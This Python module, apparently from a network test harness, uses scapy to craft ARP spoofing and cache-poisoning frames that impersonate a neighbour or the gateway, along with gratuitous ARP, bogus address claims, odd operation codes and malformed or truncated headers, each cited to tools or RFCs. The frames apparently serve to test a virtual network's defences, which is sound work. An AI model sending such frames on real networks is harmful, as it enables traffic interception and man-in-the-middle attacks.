"""ARP that claims what is not the sender's: cache poisoning in all its forms."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from ipaddress import IPv4Address
from typing import Any

from scapy.layers.l2 import ARP

from vnet.drill.attack import Exercise, Maker
from vnet.drill.frames import BROADCAST, ether, wire
from vnet.drill.scene import Scene

REQUEST, REPLY = 1, 2
ZERO = "00:00:00:00:00:00"
POISON = "arpspoof (dsniff), Ettercap; RFC 826"
CONFLICT = "RFC 5227, 2.1"


def attacks(scene: Scene) -> Iterator[Exercise]:
    """ARP spoofing, and ARP that is no ARP."""
    make = Maker("arp", scene.twin.name)
    twin, victim, other = scene.twin, scene.victim, scene.bystander

    def arp(target: str = victim.mac, **fields: Any) -> bytes:
        header = {"hwsrc": twin.mac, "psrc": twin.v4, "hwdst": ZERO, "pdst": victim.v4, **fields}
        return wire(ether(twin.mac, target), ARP(**header))

    for who, address in (("a neighbour", other.v4), ("the gateway", scene.gateway4)):
        asks = arp(BROADCAST, op=REQUEST, psrc=address)
        yield make.attack(f"a request as {who}", POISON, asks)
        yield make.attack(f"a reply as {who}", POISON, arp(op=REPLY, psrc=address, hwdst=victim.mac))
        yield make.attack(
            f"gratuitous ARP as {who}",
            POISON + "; RFC 5227, 3",
            arp(BROADCAST, op=REQUEST, psrc=address, pdst=address),
            arp(BROADCAST, op=REPLY, psrc=address, pdst=address, hwdst=BROADCAST),
            arp("01:00:5e:00:00:01", op=REPLY, psrc=address, pdst=address),
        )
    yield make.attack("a neighbour's MAC as the sender's", POISON, arp(op=REPLY, hwsrc=other.mac))
    yield make.attack(
        "own address at a MAC that is nobody's", POISON, arp(op=REPLY, hwsrc="02:00:5e:00:53:99")
    )
    yield make.attack("own address at the broadcast MAC", "RFC 1812, 3.3.2", arp(op=REPLY, hwsrc=BROADCAST))
    yield make.attack(
        "a probe for a neighbour's address", CONFLICT, arp(BROADCAST, op=REQUEST, psrc="0.0.0.0")
    )
    answer = arp(op=REPLY, psrc=victim.v4, pdst="0.0.0.0", hwdst=victim.mac)
    yield make.attack("an answer to a neighbour's probe", CONFLICT, answer)
    for what, address in (
        ("loopback", "127.0.0.1"),
        ("multicast", "224.0.0.1"),
        ("link-local", "169.254.9.9"),
    ):
        yield make.attack(f"a claim to a {what} address", "RFC 3927, 2.5", arp(op=REPLY, psrc=address))
    for operation, what in (
        (0, "0"),
        (3, "RARP"),
        (4, "RARP reply"),
        (8, "InARP"),
        (9, "InARP reply"),
        (258, "258"),
    ):
        frame = arp(BROADCAST, op=operation, psrc=other.v4)
        yield make.attack(f"operation {what}", "RFC 903, RFC 2390; RFC 5494", frame)
    yield make.attack(
        "a request for an address that nobody has", "arp-scan", arp(BROADCAST, pdst="192.0.2.77")
    )
    stranger = scene.stranger
    beyond = (arp(to, op=REQUEST, pdst=stranger.v4) for to in (BROADCAST, stranger.mac))
    told = arp(stranger.mac, op=REPLY, pdst=stranger.v4, hwdst=stranger.mac)
    yield make.attack("to another network", "VLAN isolation; IEEE 802.1Q, 8.6.1", *beyond, told)
    yield from _misshapen(scene, make)


def _misshapen(scene: Scene, make: Maker) -> Iterator[Exercise]:
    """Fields of other sizes than the addresses have, which move the addresses behind them."""
    twin, victim, claimed = scene.twin, scene.victim, scene.bystander
    start = wire(ether(twin.mac, victim.mac, 0x0806))
    mac, address = bytes.fromhex(twin.mac.replace(":", "")), IPv4Address(claimed.v4).packed
    body = mac + address + bytes(6) + IPv4Address(victim.v4).packed
    shapes = {
        "hardware length 8": (1, 0x0800, 8, 4),
        "hardware length 0": (1, 0x0800, 0, 4),
        "protocol length 16": (1, 0x0800, 6, 16),
        "protocol length 0": (1, 0x0800, 6, 0),
        "hardware type 6 (IEEE 802)": (6, 0x0800, 6, 4),
        "protocol IPv6": (1, 0x86DD, 6, 4),
    }
    for what, shape in shapes.items():
        frame = start + struct.pack("!HHBBH", *shape, REPLY) + body
        yield make.attack(what, "RFC 826; ISIC", frame)
    yield make.attack("cut off", "RFC 826", start + struct.pack("!HHBBH", 1, 0x0800, 6, 4, REPLY) + body[:15])
